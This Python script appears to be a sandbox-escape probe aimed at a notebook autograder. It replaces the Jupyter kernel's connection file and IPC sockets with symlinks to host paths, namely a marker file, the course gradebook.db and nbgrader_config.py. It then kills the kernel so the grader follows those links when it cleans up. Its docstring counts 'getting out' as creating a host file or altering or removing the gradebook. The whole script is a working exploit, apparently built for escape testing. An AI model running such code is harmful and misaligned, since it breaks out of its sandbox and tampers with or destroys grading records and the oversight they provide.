"""Symlinks in the kernel's connection directory (its ipc sockets and connection file): when the
kernel dies the grader restarts it and cleans up there, following what it finds. Each of our
own files there is replaced by an absolute symlink to a host path (a marked file that does not
exist yet, the course's gradebook, nbgrader_config.py). Only this kernel's own files are touched.

Got out: a marked file appears on the host, or the gradebook/config is changed or removed.
"""
import glob
import json
import os

try:
    from ipykernel.connect import get_connection_file
    cf = get_connection_file()
except Exception as exc:
    cf = None
    print("no connection file", exc)
if cf:
    folder = os.path.dirname(os.path.abspath(cf))
    info = {}
    try:
        info = json.load(open(cf))
    except Exception as exc:
        print("connection file", exc)
    own = {os.path.abspath(cf)}
    if info.get("transport") == "ipc":
        own |= {os.path.abspath(p) for p in glob.glob(info["ip"] + "-*")}
    print("connection dir", folder, sorted(os.listdir(folder))[:50])
    targets = [f"/tmp/{_MARK}-conn-%d", f"{_COURSE}/gradebook.db", f"{_COURSE}/nbgrader_config.py"]
    for i, path in enumerate(sorted(own)):
        target = targets[i % 3] % i if "%d" in targets[i % 3] else targets[i % 3]
        try:
            os.rename(path, f"{path}.{_MARK}")
            os.symlink(target, path)
            print("linked", path, "->", target)
        except OSError as exc:
            print(path, exc)
    generic = ("kernel.json", "connection.json", "zygote.sock", "control") if folder not in ("/tmp", "/var/tmp") else ()
    for name in generic + (f"{_MARK}-extra",):
        try:
            os.symlink(f"/tmp/{_MARK}-conn-{name}", os.path.join(folder, name))
        except OSError:
            pass
os._exit(1)
